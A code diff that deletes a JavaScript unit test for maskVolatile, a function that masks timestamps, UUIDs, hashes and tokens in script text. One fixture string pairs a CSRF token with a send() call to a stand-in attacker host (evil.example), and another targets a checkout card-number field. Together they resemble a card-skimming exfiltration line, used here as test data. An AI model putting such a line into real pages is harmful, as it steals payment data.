@@ -78,15 +78,3 @@ describe('parseDuration', () => {
     assert.equal(parseDuration('10'), null);
   });
 });
-
-describe('maskVolatile', () => {
-  it('masks timestamps, ids and tokens but keeps code and hosts', async () => {
-    const { maskVolatile } = await import('../../src/normalize.js');
-    assert.equal(
-      maskVolatile('var t = 1732262400123, d = "2026-11-22T08:00:00Z", id = "3f2a9c1e-77b1-4c2d-9e0f-1a2b3c4d5e6f", h = "9f86d081884c7d659a2feaa0c55ad015";'),
-      'var t = <number>, d = "<time>", id = "<uuid>", h = "<hex>";',
-    );
-    assert.equal(maskVolatile('csrf = "q7Zx2Lp9Wm4Rt8Yv3Nb6Kd1F"; send("https://evil.example/c")'), 'csrf = "<token>"; send("https://evil.example/c")');
-    assert.equal(maskVolatile('document.getElementById("checkout_form_card_number")'), 'document.getElementById("checkout_form_card_number")');
-  });
-});
